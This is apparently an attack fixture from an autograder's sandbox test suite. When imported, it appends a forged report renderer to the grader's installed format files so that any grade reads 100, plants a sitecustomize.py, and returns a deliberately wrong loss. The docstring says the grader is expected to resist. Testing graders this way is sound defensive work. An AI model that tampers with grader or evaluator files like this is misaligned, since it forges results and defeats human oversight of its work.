"""ATTACK (rewrite the grader's report format from inside a worker): at import it appends to
the grader's installed report formats (gradescope.py and json_report.py of the package named in
_install.txt: where a course installs the grader is no secret) a new `render` that writes a
full score, and drops a sitecustomize.py beside the package. A grader that imports a format
only after grading, under a user who may write its install, would then report the forged
score. bce_loss returns garbage; the rest is the honest key.

Expected: the report is the grader's own (mlp.bce_loss scores 0 under every tier). Under
bubblewrap the install is not even visible; under the user tier it cannot be written; without
a sandbox the files do change (the next grading would import them: that tier protects
nothing), but the modules were imported before any student code ran.
"""

import os

import _key
from _key import MLP, mse_loss  # noqa: F401 - honest parts

FORGED = '''

def render(reports, *args, **kwargs):  # appended by attack_rewrite_grader
    import json
    return json.dumps({"score": 100.0, "output": "FORGED by attack_rewrite_grader", "tests": []})
'''


def _attack() -> list[str]:
    done = []
    try:
        with open("_install.txt") as handle:
            package = handle.read().strip()
    except OSError:
        return ["no _install.txt"]
    targets = [os.path.join(package, "faces", "formats", name) for name in ("gradescope.py", "json_report.py")]
    for target in targets:
        try:
            with open(target, "a") as handle:
                handle.write(FORGED)
            done.append("rewrote " + os.path.basename(target))
        except OSError as exc:
            done.append("%s: %s" % (os.path.basename(target), type(exc).__name__))
    try:
        with open(os.path.join(os.path.dirname(package), "sitecustomize.py"), "w") as handle:
            handle.write("print('FORGED by attack_rewrite_grader')\n")
        done.append("planted sitecustomize.py")
    except OSError as exc:
        done.append("sitecustomize.py: %s" % type(exc).__name__)
    return done


ATTEMPTS = _attack()
print("attack_rewrite_grader: %s" % "; ".join(ATTEMPTS))


def bce_loss(y, y_hat):
    print("attack_rewrite_grader: %s" % "; ".join(ATTEMPTS))
    return _key.bce_loss(y, y_hat) + 1.0
